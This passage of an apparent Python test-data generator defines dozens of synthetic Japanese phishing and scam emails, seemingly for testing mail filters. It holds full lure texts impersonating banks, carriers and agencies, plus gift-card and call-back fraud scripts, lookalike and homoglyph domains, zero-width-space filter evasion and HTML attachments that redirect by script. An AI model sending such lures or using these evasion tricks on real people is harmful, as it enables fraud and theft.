  '【ETC利用照会サービス】未払い料金のお知らせ',
  'ETCサービスをご利用いただきありがとうございます。\n\nお客様のETCカードのご利用料金に未払いがございます。\n期日までにお支払いがない場合、ETCカードの利用を停止いたします。\n\n'
  '[[未払い料金を確認する|https://etc-riyou-shokai.com/meisai/]]\n\nETC利用照会サービス事務局',
  cs='sjis', cte='quoted-printable', auth=look('none'), tricks='ETC toll-road unpaid lure (very common in Japan 2025); Shift_JIS QP')

M(P, 'mlit-etc-mileage-points-lookalike-midsplit', '国土交通省', ('ETCマイレージサービス', 'info@etc-mileage-mlit.com'), 'kaz-w@nifty.com',
  '【ETCマイレージ】ポイント有効期限のお知らせ',
  'ETCマイレージサービスにご登録のお客様\n\n還元額 3,000円分の有効期限が近づいています。\n登録情報の確認後、自動的に還元されます。\n\n'
  '[[登録情報を確認|https://etc-mileage-mlit.com/login]]\n\n国土交通省 道路局',
  midsplit=True, auth=look('none'), tricks='government/toll-road brand; subject split mid-character')

M(P, 'court-final-notice-lawsuit-callback-euc', '裁判所（なりすまし）', ('民事訴訟管理センター', 'saiban-center@courts-notice.jp'), OCN,
  '【最終通知】訴訟最終告知のお知らせ',
  'この度、ご契約会社から契約不履行による民事訴訟として訴状が提出されました。\n取下げ期日を過ぎますと、給与・不動産等の差し押さえを強制執行させていただきます。\n\n'
  '書面にての通達となりますが、個人情報保護のため、お電話にてお問い合わせください。\n民事訴訟管理センター　03-5979-XXXX\n受付時間 9:00〜18:00',
  cs='euc', cte='8bit', mime='plain', auth=look('none'), tricks='classic 訴訟最終告知 call-back scam; no link; seizure threat; EUC-JP 8bit')

M(P, 'nenkin-benefit-refund-lookalike', '日本年金機構', ('日本年金機構', 'info@nenkin-kyufu.org'), YH,
  '年金生活者支援給付金の請求手続きのご案内',
  '日本年金機構からのお知らせです。\n\nお客様は年金生活者支援給付金の支給対象となっております。\n請求手続きがお済みでないため、下記より手続きを行ってください。\n\n'
  '[[給付金の請求手続き|https://nenkin-kyufu.org/seikyu/]]\n\n日本年金機構',
  cs='jis', cte='7bit', auth=look('none'), tricks='pension benefit refund lure targeting older recipients')

M(P, 'bukkadaka-benefit-municipal-lookalike-domain', '市区町村（なりすまし）', ('給付金事務局', 'info@kyufukin-city-office.com'), 'sachiko_n55@yahoo.co.jp',
  '【重要】物価高騰対策給付金（3万円）の受取手続きについて',
  '世帯主様\n\n物価高騰対策給付金の受取手続きがお済みでない世帯に通知しております。\n受取口座の登録は本メールから可能です。\n\n'
  '[[受取口座を登録する|https://kyufukin-city-office.com/kouza]]\n\n※期限：通知日から7日以内\n給付金事務局',
  mime='html', cte='base64', auth=look('none'), tricks='municipal benefit scam from non-lg.jp domain; bank account harvesting')

M(P, 'sagawa-sms-text-grandma-forwards-android-au', '佐川急便', ('', 'sagawa-info@au-mail-sagawa.com'), 'fumiko.t.1948@au.com',
  'お荷物のお届けについて',
  '佐川急便よりお荷物を発送しましたが、宛先不明の為持ち帰りました。下記よりご確認ください。 https://sagawa-delivery-jp.top/?c=fumiko',
  mime='plain', cte='base64', auth=look('none'),
  wrap=dict(kind='android', by=('高橋文子', 'fumiko.t.1948@au.com'), to='takahashi.kenta.0401@gmail.com', note='けんちゃん、これなに？', mailer='au Mail',
            auth=dict(host='mx-out.au.com', dkim_d='au.com'), desc='grandmother forwards SMS-style phish from au mail app to grandson'),
  tricks='no display name; SMS-like text; .top domain')

M(P, 'yupack-absent-iphone-fwd-husband-note', '日本郵便', ('日本郵便', 'yupack@post-japan-saihaitatsu.com'), 'naoko.kb@i.softbank.jp',
  '【ゆうパック】不在通知：お荷物を持ち戻りました',
  'ご不在のため、お荷物を持ち戻りました。\n保管期限：3日間\n\n再配達の手続きはこちら\nhttps://post-japan-saihaitatsu.com/rd?no=6612009\n\n日本郵便株式会社',
  mime='plain', cs='sjis', cte='8bit', auth=look('none'),
  wrap=dict(kind='iphone', by=('小林直子', 'naoko.kb@i.softbank.jp'), to='takeshi.k@kanto-denki.co.jp', note='これ荷物頼んだ？',
            auth=dict(host='mx-out.i.softbank.jp', dkim_d='i.softbank.jp'), desc='wife forwards a Japan Post phish from iPhone to husband\'s work address'),
  tricks='absent-delivery lure; Shift_JIS 8bit in inner')

M(P, 'daccount-security-machine-translated-au-com', 'NTTドコモ', ('dアカウント', 'security@daccount-security.com'), AU,
  'dアカウントのセキュリティ警告',
  'あなたのdアカウントは、異常なサインインのため一時的に停止されています。\nお客様のアカウントを確保するために、あなたの情報を更新してください。\n'
  '私たちは不便をおかけして申し訳ありません。\n\n[[アカウントを確認する|https://daccount-security.com/verify]]\n\nドコモカスタマーサービス',
  cs='utf-8', cte='8bit', mime='alt', auth=look('none'), tricks='machine-translated Japanese; carrier brand sent to competitor carrier (au.com) mailbox')

M(P, 'apple-fake-receipt-refund-callback-pdf', 'Apple', ('Apple', 'apple.receipt.jp@gmail.com'), IC,
  'Appleからの領収書（ご注文番号 MQ7X2J/A）',
  'ご購入ありがとうございます。\n\n商品：Apple Music ファミリープラン 年額\n金額：¥54,800\n\n'
  'このご購入に心当たりがない場合、48時間以内にAppleサポート（0120-27-XXXX）までお電話いただければ全額返金いたします。\n\nApple Japan',
  mime='plain', cte='base64', attach=[('application/pdf', fakepdf('Apple receipt'), '領収書_MQ7X2J.pdf')], auth=free(),
  tricks='fake receipt + refund call-back scam; free-mail sender; PDF attachment with Japanese filename')

M(P, 'norton-renewal-invoice-callback-sjis', 'ノートン', ('Norton LifeLock', 'billing.norton.jp@outlook.com'), NF,
  'ご請求書：ノートン360 自動更新完了',
  'お客様\n\nノートン 360 デラックス（3年版）の自動更新が完了しました。\n請求金額：39,800円\n\n'
  '自動更新をキャンセルし返金を希望する場合は、サポートセンターまでお電話ください。\n050-5443-XXXX\n\nNortonLifeLock',
  cs='sjis', cte='base64', mime='plain', auth=dict(mf='outlook.com', dkim_d='outlook.com', host='APC01-TYZ-obe.outbound.protection.outlook.com'),
  tricks='subscription-renewal call-back (remote-access tech support) scam; free-mail outlook.com sender')

M(P, 'paypal-payment-sent-callback-bitcoin', 'PayPal', ('PayPal', 'service@intl-paypal-jp.com'), GM,
  'お支払いが完了しました：¥68,000 ビットコイン購入',
  'PayPalをご利用いただきありがとうございます。\n\nお客様のアカウントから ¥68,000 のお支払いが完了しました。\n支払先：Coinbase Japan\n\n'
  'この取引に心当たりがない場合、カスタマーサポートに電話してください：+81 3-4578-XXXX\n\nPayPal Pte. Ltd.',
  auth=look('pass'), tricks='fake payment notification with call-back number; attacker domain passing DMARC')

M(P, 'bec-manager-gift-card-request-free-mail', '（BEC・上司なりすまし）', ('山本部長', 'yamamoto.bucho.2025@gmail.com'), 'sato.ryo@kanto-denki.co.jp',
  'お願い',
  '佐藤さん\n\n今手が離せないので、お願いがあります。\n取引先への贈答用に、Appleギフトカード（1万円×5枚）をコンビニで購入してもらえますか。\n'
  '購入後、裏面のコードを写真に撮ってこのメールに送ってください。\n経費で精算します。\n\n山本',
  cs='jis', cte='7bit', mime='plain', auth=free(), tricks='gift-card BEC from free mail using a manager\'s name; no link')

M(P, 'rakuten-mobile-usage-fee-lookalike-qp', '楽天モバイル', ('楽天モバイル', 'info@rakuten-mobile-ryokin.com'), SB,
  '【楽天モバイル】ご利用料金のお支払いについて',
  '楽天モバイルをご利用いただきありがとうございます。\n\n今月のご利用料金のお支払いに失敗しました。\nお支払い方法を更新してください。\n\n'
  '[[my 楽天モバイル|https://rakuten-mobile-ryokin.com/my/]]\n\n楽天モバイル株式会社',
  cte='quoted-printable', auth=look('none'), tricks='carrier billing failure lure; UTF-8 QP alternative')

M(P, 'vpass-zero-width-body-forged', '三井住友カード', ('三井住友カード', 'info@vpass.ne.jp'), EZ,
  '【三井住友カード】ご利用確認のお願い',
  '三井住友\u200bカードをご利用いただきありがとうございます。\n\n第三者による不正利用の可能性があるため、カードのご利用を一部制限しております。\n'
  'V\u200bpass\u200bにログインし、ご利用内容をご確認ください。\n\n[[Vpassログイン|https://vpass-kakunin.smcc-card-jp.com/]]\n\n三井住友カード株式会社',
  mime='html', cte='base64', auth=forged('smcc-card-jp.com', spf='pass'),
  tricks='zero-width spaces in brand words to evade keyword filters; forged vpass.ne.jp From with DMARC fail')

M(P, 'jal-jmb-miles-lookalike-icloud', 'JAL', ('JALマイレージバンク', 'jmb@jal-mileagebank.net'), IC,
  '【JAL】マイル有効期限延長キャンペーン',
  'JMB会員様\n\n期間限定で、有効期限切れ間近のマイルを延長できるキャンペーンを実施中です。\n\n[[詳細・お手続き|https://jal-mileagebank.net/jmb/extend]]\n\n日本航空株式会社',
  cs='jis', cte='base64', auth=look('none'), tricks='airline miles lure; ISO-2022-JP base64')

M(P, 'meta-copyright-violation-business-page', 'Meta (Facebook/Instagram)', ('Meta for Business', 'no-reply@meta-business-appeal.com'), 'info@cafe-hinata.jp',
  'お客様のページは著作権侵害により削除されます',
  'お客様のInstagramビジネスアカウントが著作権を侵害していると報告されました。\n\n異議申し立てを行わない場合、アカウントは24時間以内に削除されます。\n\n'
  '[[異議申し立てを送信|https://meta-business-appeal.com/appeal/case-88120]]\n\nMeta Platforms, Inc.',
  auth=look('none'), tricks='copyright-violation appeal lure targeting a small business (fictional cafe domain)')

M(P, 'google-workspace-storage-quota-fake-admin', 'Google', ('Google Workspace', 'workspace-noreply@google-storage-alert.com'), 'sales@mitsuba-seiki.co.jp',
  'ストレージ容量が上限に達しました - メールの受信が停止されます',
  '管理者からのお知らせ\n\nお使いのアカウントのストレージ容量が上限（15GB）に達しました。\n新しいメールを受信できなくなります。\n\n'
  '[[容量を追加する|https://google-storage-alert.com/workspace/storage]]\n\nGoogle Workspace チーム',
  mime='html', cte='quoted-printable', auth=look('none'), tricks='workspace storage quota lure to a company mailbox')

PUNY = 'xn--' + 'аmazon'.encode('punycode').decode()  # Cyrillic a, computed deterministically

M(P, 'mizuho-direct-html-attachment-sjis', 'みずほ銀行', ('みずほ銀行', 'info@mizuho-direct-kakunin.com'), BG,
  '【みずほ銀行】お客様情報の確認について',
  'みずほダイレクトをご利用のお客様\n\n当行では、お客様情報の定期確認を実施しております。\n添付ファイルを開き、必要事項をご入力ください。\n\n株式会社みずほ銀行',
  cs='sjis', cte='base64', mime='plain',
  attach=[('text/html', '<html><head><meta charset="shift_jis"></head><body><script>location.href="https://mizuho-direct-kakunin.com/l?e="+btoa("emi")</script></body></html>'.encode(), 'mizuho_kakunin.html')],
  auth=look('none'), tricks='HTML attachment with script redirect to invented domain; Shift_JIS body')

M(P, 'resona-bank-lookalike-sjis-qp-plain', 'りそな銀行', ('りそな銀行', 'resona@resona-mybank.net'), DOC,
  '【りそな銀行】取引制限のお知らせ',
  'りそなグループアプリをご利用のお客様\n\nお客様の口座で不審な取引が確認されたため、取引を一部制限しました。\n解除手続きはこちら\nhttps://resona-mybank.net/kaijo/\n\nりそな銀行',
  cs='sjis', cte='quoted-printable', mime='plain', auth=look('none'), tricks='regional/major bank look-alike; Shift_JIS QP text/plain to docomo')

M(P, 'aujibun-bank-forged-from-dmarc-fail', 'auじぶん銀行', ('auじぶん銀行', 'info@jibunbank.co.jp'), EZ,
  '【auじぶん銀行】ご本人様確認のお願い',
  'auじぶん銀行をご利用いただきありがとうございます。\n\n法令に基づき、定期的にお客様情報の確認をお願いしております。\n\n[[確認手続きへ|https://jibunbank-kakunin.net/login]]\n\nauじぶん銀行株式会社',
  cs='jis', cte='7bit', auth=forged('jibunbank-kakunin.net', spf='pass'), tricks='UNSURE: jibunbank.co.jp forged as From; DMARC fail')

M(P, 'paypay-bank-login-alert-lookalike-crlf', 'PayPay銀行', ('PayPay銀行', 'security@paypay-bank-alert.com'), GM,
  '【PayPay銀行】ログイン通知',
  'PayPay銀行をご利用いただきありがとうございます。\n\n新しい端末からログインがありました。\n日時：2025年10月3日 2:41\n\nお心当たりがない場合は、直ちに以下から暗証番号を変更してください。\n'
  '[[暗証番号の変更|https://paypay-bank-alert.com/ib/pin]]\n\nPayPay銀行株式会社',
  nl='crlf', cte='base64', auth=look('none'), tricks='fake login alert mimicking genuine notices; CRLF')

M(P, 'dbarai-campaign-point-lookalike-html', 'd払い', ('d払い', 'campaign@dbarai-point.net'), 'm.kato-77@docomo.ne.jp',
  '【d払い】キャンペーン当選のお知らせ（dポイント5,000pt）',
  'おめでとうございます！\n\nd払いキャンペーンにご当選されました。\nポイント受け取りのため、dアカウントでログインしてください。\n\n[[ポイントを受け取る|https://dbarai-point.net/campaign/get]]\n\n受取期限：2025年11月30日',
  mime='html', cte='base64', auth=look('none'), tricks='prize/campaign lure to docomo subscriber')

M(P, 'orico-card-forged-euc-jp-html', 'オリコカード', ('オリコカード', 'info@orico.co.jp'), OCN,
  '【オリコ】カードご利用停止のお知らせ',
  'オリコカードをご利用のお客様\n\nお客様のカード情報が不正に使用された可能性があるため、ご利用を一時停止しました。\n'
  '再開には本人確認が必要です。\n\n[[eオリコにログイン|https://orico-e-login.com/eorico/]]\n\n株式会社オリエントコーポレーション',
  cs='euc', cte='quoted-printable', mime='html', auth=forged('orico-e-login.com', spf='softfail'),
  tricks='UNSURE: orico.co.jp forged as From; EUC-JP QP HTML-only; DMARC fail')

M(P, 'aeon-bank-lookalike-autoforwarded-docomo-to-gmail', 'イオン銀行', ('イオン銀行', 'info@aeonbank-kakunin.com'), 'yumi.o.88@docomo.ne.jp',
  '【イオン銀行】お取引目的の確認',
  'イオン銀行をご利用のお客様\n\nお取引目的等の確認にご協力をお願いします。\n\n[[確認はこちら|https://aeonbank-kakunin.com/form]]\n\nイオン銀行',
  cs='sjis', cte='base64', mime='alt', auth=look('none'),
  autofwd=dict(to='yumi.ono.1988@gmail.com', host='mfsmax.docomo.ne.jp', spf='softfail', dkim='pass', dmarc='none', desc='auto-forwarded from docomo.ne.jp mailbox to Gmail (server-side forward, SPF softfail at Gmail, X-Forwarded-To)'),
  tricks='look-alike domain')

M(P, 'amazon-punycode-cyrillic-lookalike-yahoo', 'Amazon.co.jp', ('Amazon', 'info@%s.co.jp' % PUNY), YH,
  'Amazonアカウントの情報を更新してください',
  'Amazonのお客様\n\nお客様のアカウント情報に不一致が見つかりました。\n以下から情報を更新しない場合、ご注文は発送されません。\n\n'
  '[[www.аmazon.co.jp/account|https://%s.co.jp/ap/signin]]\n\nAmazon.co.jp' % PUNY,
  auth=look('pass'), tricks='punycode IDN look-alike (Cyrillic а) sender domain passing DMARC; Cyrillic homoglyph in displayed URL')

M(P, 'teams-voicemail-html-attachment-company', 'Microsoft Teams', ('Teams Voice', 'voicemail@teams-voice-jp.com'), 'soumu@kanto-denki.co.jp',
  '新しいボイスメールがあります（0:42）',
  '新しいボイスメッセージを受信しました。\n\n発信者：+81 3-XXXX-XXXX\n長さ：0:42\n\n添付ファイルを開いて再生してください。',
  mime='plain', cs='utf-8', cte='base64',
  attach=[('text/html', '<html><body onload="location=\'https://teams-voice-jp.com/play?u=soumu\'"></body></html>'.encode(), 'VoiceMail_0042.htm')],
  auth=look('none'), tricks='voicemail HTML-attachment redirect; company recipient')

M(P, 'dhl-customs-duty-machine-translated-gmail', 'DHL', ('DHL Express', 'noreply@dhl-jp-tracking.com'), GM,
  'DHL：お荷物は配達の準備ができています',
  'お客様各位、\n\nあなたの小包は税関で保持されています。配達を完了するために、関税料金 ¥320 を支払う必要があります。\n\n'
  '[[今すぐ支払う|https://dhl-jp-tracking.com/pay]]\n\n敬具、\nDHLエクスプレス',
  auth=look('none'), tricks='machine-translated Japanese (お客様各位、/敬具、); small customs fee')

M(P, 'ubereats-refund-failure-lookalike', 'Uber Eats', ('Uber Eats', 'refund@ubereats-jp-support.com'), ISB,
  'Uber Eats：返金処理が完了できませんでした',
  'ご注文の返金（2,480円）を処理できませんでした。\n返金を受け取るには、お支払い情報を再確認してください。\n\n[[返金を受け取る|https://ubereats-jp-support.com/refund]]',
  cte='quoted-printable', mime='html', auth=look('none'), tricks='refund-failure lure; HTML-only')

M(P, 'furusato-nozei-deadline-lookalike-jis', 'ふるさと納税', ('ふるさと納税事務局', 'info@furusato-nouzei-portal.jp'), NF,
  '【年末締切】ふるさと納税 控除上限額の確認',
  'ふるさと納税をご利用のお客様\n\n今年の控除上限額の確認がお済みでありません。\n12月31日を過ぎると控除が受けられなくなります。\n\n'
  '[[控除上限額を確認|https://furusato-nouzei-portal.jp/check]]\n\nふるさと納税事務局',
  cs='jis', cte='7bit', mime='alt', auth=look('none'), tricks='seasonal year-end tax-deduction lure')

M(P, 'rakuten-points-expire-softbank-shiftjis', '楽天', ('楽天会員サービス', 'member@rakuten-point-info.com'), 'yui.k.0815@softbank.ne.jp',
  '【楽天】期間限定ポイント失効のお知らせ',
  '楽天会員様\n\n期間限定ポイント 3,210ポイントがまもなく失効します。\nポイント保護のため会員情報を確認してください。\n\n'
  'https://rakuten-point-info.com/member/login\n\n楽天グループ株式会社',
  cs='sjis', cte='8bit', mime='plain', auth=look('none'), tricks='point-expiry lure; Shift_JIS 8bit plain')

M(P, 'google-account-password-reset-forged-gmail', 'Google', ('Google', 'no-reply@accounts.google.com'), GM,
  'セキュリティ通知：パスワードの再設定が必要です',
  'お客様のGoogleアカウントのパスワードが漏洩した可能性があります。\nアカウントを保護するため、パスワードを再設定してください。\n\n'
  '[[パスワードを再設定|https://accounts-google.security-check-jp.com/signin]]\n\nGoogle アカウント チーム',
  auth=forged('security-check-jp.com', spf='fail'), tricks='forged accounts.google.com with SPF fail / DMARC fail (p=reject brand); subdomain of attacker domain mimics accounts.google')

M(P, 'icloud-photos-delete-warning-free-mail-hotmail', 'Apple iCloud', ('iCloud サポート', 'icloud.support.jp@hotmail.com'), 'ryo.tnk@icloud.com',
  '写真が削除されます（最終警告）',
  'iCloud の支払いに失敗しました。\n本日中にお支払い情報を更新しない場合、全ての写真とビデオが削除されます。\n\n'
  'https://icloud-payment-update.net/\n\nApple',
  mime='plain', cte='7bit', cs='jis', auth=dict(mf='hotmail.com', dkim_d='hotmail.com', host='JPN01-OS0-obe.outbound.protection.outlook.com'),
  tricks='free-mail hotmail.com sender; final-warning urgency')

M(P, 'unext-subscription-suspended-lookalike', 'U-NEXT', ('U-NEXT', 'info@unext-member.net'), AU,
  '【U-NEXT】お支払い情報の確認のお願い',
  'U-NEXTをご利用いただきありがとうございます。\n\nお支払い方法の確認ができなかったため、サービスを一時停止しました。\n\n[[お支払い情報を更新|https://unext-member.net/account/payment]]\n\n株式会社U-NEXT',
  cs='utf-8', cte='base64', auth=look('none'), tricks='streaming billing lure')

M(P, 'prime-video-renewal-failed-forged-icloud', 'Amazon Prime Video', ('Prime Video', 'no-reply@primevideo.com'), IC,
  'Prime Video：会員資格の更新ができませんでした',
  'Prime Video会員資格の更新に使用するお支払い方法に問題があります。\n\n[[お支払い方法を更新|https://primevideo-jp.renew-member.com/]]\n\nAmazon Prime Video',
  mime='html', cte='base64', auth=forged('renew-member.com', spf='pass'), tricks='forged primevideo.com From (DMARC fail) to iCloud')

M(P, 'playstation-network-suspended-machine-translated', 'PlayStation', ('PlayStation Network', 'psn@playstation-account-jp.com'), 'sho.h.2008@icloud.com',
  'あなたのアカウントは一時停止されています',
  'PlayStationNetworkアカウントは、利用規約違反の疑いのため一時停止されています。\nあなたのアカウントを復元するには、以下のリンクから確認を完了してください。\n\n'
  '[[アカウントを復元|https://playstation-account-jp.com/restore]]\n\nソニー・インタラクティブエンタテインメント',
  cte='quoted-printable', auth=look('none'), tricks='game account suspension; machine-translated Japanese')

M(P, 'square-enix-account-dq10-lookalike-jis', 'スクウェア・エニックス', ('スクウェア・エニックス アカウント', 'info@square-enix-account-jp.com'), 'kaz-w@nifty.com',
  '【重要】スクウェア・エニックス アカウントの確認',
  'スクウェア・エニックス アカウントをご利用のお客様\n\nお客様のアカウントに不正なアクセスがありました。\nワンタイムパスワードの再登録をお願いします。\n\n'
  '[[再登録する|https://square-enix-account-jp.com/oauth/]]\n\n株式会社スクウェア・エニックス',
  cs='jis', cte='7bit', mime='alt', auth=look('none'), tricks='game account (Dragon Quest X players) OTP re-registration lure')

M(P, 'bitflyer-withdrawal-confirm-lookalike', 'bitFlyer', ('bitFlyer', 'support@bitflyer-security.net'), GM,
  '【bitFlyer】出金申請を受け付けました',
  'bitFlyerをご利用いただきありがとうございます。\n\n出金申請を受け付けました。\n出金額：0.52 BTC\n\nこの出金に心当たりがない場合は、直ちに以下から取り消してください。\n'
  '[[出金を取り消す|https://bitflyer-security.net/cancel]]',
  auth=look('pass'), tricks='crypto withdrawal-cancel lure; attacker domain passing DMARC')

M(P, 'rakuten-securities-forged-from-dmarc-fail-yahoo', '楽天証券', ('楽天証券', 'info@rakuten-sec.co.jp'), YH,
  '【楽天証券】重要：ログイン追加認証の設定のお願い',
  '楽天証券をご利用のお客様\n\n不正ログイン被害防止のため、ログイン追加認証の設定が必須となりました。\n設定されていないお客様は、お取引が制限されます。\n\n'
  '[[追加認証を設定する|https://rakuten-sec.member-ninsho.com/login]]\n\n楽天証券株式会社',
  cs='jis', cte='base64', auth=forged('member-ninsho.com', spf='pass'),
  tricks='securities phishing wave 2025 (forged rakuten-sec.co.jp From, DMARC fail); MFA-setup pretext')

M(P, 'nomura-securities-gmail-forward-from-father', '野村證券', ('野村證券', 'info@nomura-kakunin.com'), 'ichiro.m.1950@ocn.ne.jp',
  '【野村證券】お客様情報の確認',
  '野村證券をご利用のお客様\n\nお客様の口座が不正利用されている可能性があります。\n以下のURLよりログインし、登録情報をご確認ください。\n\n'
  'https://nomura-kakunin.com/login/\n\n野村證券株式会社',
  cs='sjis', cte='base64', mime='plain', auth=look('none'),
  wrap=dict(kind='gmail', by=('松本一郎', 'ichiro.m.1950@ocn.ne.jp'), to='matsumoto.akane@gmail.com', note='あかねへ\n野村から来たけど、口座は持ってない。本物かな。\n父',
            auth=dict(host='mfsmtp01.ocn.ne.jp', dkim_d='ocn.ne.jp'), desc='father forwards (---------- Forwarded message ---------) from OCN to daughter asking if real'),
  tricks='look-alike')

M(P, 'monex-account-reverify-lookalike-euc', 'マネックス証券', ('マネックス証券', 'support@monex-account.net'), BG,
  '【マネックス証券】本人確認書類の再提出のお願い',
  'マネックス証券をご利用のお客様\n\n本人確認書類の有効期限が切れているため、再提出をお願いいたします。\n\n'
  'https://monex-account.net/kyc/upload\n\nマネックス証券株式会社',
  cs='euc', cte='7bit', mime='plain', auth=look('none'), tricks='KYC re-submission lure collecting ID images; EUC-JP')

M(P, 'yahuoku-payment-fraud-buyer-message', 'Yahoo!オークション', ('Yahoo!オークション', 'auction-notice@yahuoku-torihiki.com'), 'sachiko_n55@yahoo.co.jp',
  '【Yahoo!オークション】落札者からの支払いが保留されています',
  '出品者様\n\n落札者からのお支払い（24,000円）がシステムにより保留されています。\n受け取りには出品者認証が必要です。\n\n'
  '[[出品者認証|https://yahuoku-torihiki.com/seller/verify]]\n\nYahoo!オークション',
  cs='utf-8', cte='8bit', auth=look('none'), tricks='marketplace payment-hold lure targeting sellers')

M(P, 'docomo-sms-copied-into-mail-self-forward-gmail', 'NTTドコモ', ('', 'hanako.s-0423@docomo.ne.jp'), 'hanako.sato.0423@gmail.com',
  'SMS',
  '【ドコモ】お客様のご利用料金が高額になっています。ご確認ください。 https://docomo-riyou-kakunin.top/my\n\n（+81 80-XXXX-XXXX から受信したSMSをコピー）',
  mime='plain', cte='base64', auth=dict(host='mfsmax.docomo.ne.jp', dkim_d='docomo.ne.jp'),
  tricks='user pastes a smishing SMS into a mail to herself (own docomo address to own Gmail); genuine sender auth, phishing URL in body')

M(P, 'eplus-ticket-refund-lookalike-qp', 'イープラス', ('イープラス', 'info@eplus-refund.jp'), AU,
  '【イープラス】公演中止に伴う払い戻しのご案内',
  'イープラスをご利用いただきありがとうございます。\n\nご購入いただいた公演は中止となりました。\n払い戻しを受けるには、下記より口座情報をご登録ください。\n\n'
  '[[払い戻し手続き|https://eplus-refund.jp/refund/form]]\n\n株式会社イープラス',
  cte='quoted-printable', mime='alt', auth=look('none'), tricks='ticket-cancellation refund lure')

M(P, 'ja-bank-jnb-lookalike-jis-cp932', 'JAバンク', ('ＪＡバンク', 'info@jabank-net.com'), 'kaz-w@nifty.com',
  '【ＪＡバンク】ＪＡネットバンク　ご利用確認のお願い',
  'ＪＡネットバンクをご利用のお客様\n\n①ログインＩＤ\n②ログインパスワード\n③ワンタイムパスワード\nの再確認が必要です。\n\n'
  'https://jabank-net.com/ib/login\n\nＪＡバンク',
  cs='jis', cte='7bit', mime='plain', auth=look('none'), tricks='CP932 circled digits in ISO-2022-JP; asks for OTP; agricultural bank brand')

M(P, 'amazon-outlook-jp-forward-colleague-warning-quoted', 'Amazon.co.jp', ('Amazon.co.jp', 'no-reply@amazon.co.jp'), 'k.nakamura@kanto-denki.co.jp',
  'Amazon.co.jp にご登録のアカウント（名前、パスワード、その他個人情報）の確認',
  'Amazon お客様\n\nAmazonに登録いただいたお支払い方法が承認されません。\nアカウントの情報を更新してください。\n\n[[Amazonにログイン|https://amazon-co-jp.signin-update.cn/ap/]]\n\nAmazon.co.jp',
  mime='html', cte='base64', auth=forged('signin-update.cn', spf='softfail'),
  wrap=dict(kind='outlook', by=('中村 健', 'k.nakamura@kanto-denki.co.jp'), to='it-support@kanto-denki.co.jp',
            note='情報システム部 御中\n\n添付のようなメールが届きました。これ怪しくないですか？\nクリックはしていません。\n\n総務部 中村', auth=dict(host='mail.kanto-denki.co.jp'),
            desc='employee forwards to IT from Outlook (Japanese 差出人/送信日時 headers) asking if suspicious'),
  tricks='forged amazon.co.jp, .cn link')

M(P, 'kuroneko-members-forged-midsplit-crlf-ezweb', 'ヤマト運輸', ('クロネコメンバーズ', 'mail@kuronekoyamato.co.jp'), EZ,
  '【クロネコメンバーズ】お届け予定のお知らせ（要確認）',
  'クロネコメンバーズ会員様\n\nお届け予定のお荷物がございますが、住所不備のため配達できません。\n以下からお届け先を確認してください。\n\n'
  'https://kuronekoyamato-co-jp.otodoke-kakunin.com/\n\nヤマト運輸株式会社',
  midsplit=True, nl='crlf', mime='plain', cte='base64', auth=forged('otodoke-kakunin.com', spf='softfail'),
  tricks='forged kuronekoyamato.co.jp From (DMARC fail); subject split mid-character; CRLF')

M(P, 'amazon-gift-prize-related-inline-logo-yahoo', 'Amazon.co.jp', ('Amazonギフト事務局', 'amazon-gift@amazon-gift-tousen.com'), 'sachiko_n55@yahoo.co.jp',
  'Amazonギフトカード5,000円分 当選のお知らせ',
  'アンケートにご協力いただいた方の中から抽選で、Amazonギフトカード5,000円分が当選しました。\n\n[[ギフトを受け取る|https://amazon-gift-tousen.com/get?id=8812]]\n\nお受け取り期限：3日以内',
  cs='utf-8', cte='base64', mime='html', related=True, auth=look('none'),
  pre='<img src="cid:logo@amazon-gift-prize-related-inline-logo-yahoo" alt="Amazon" width="120">\n',
  tricks='gift-card prize lure with inline logo (multipart/related); look-alike')
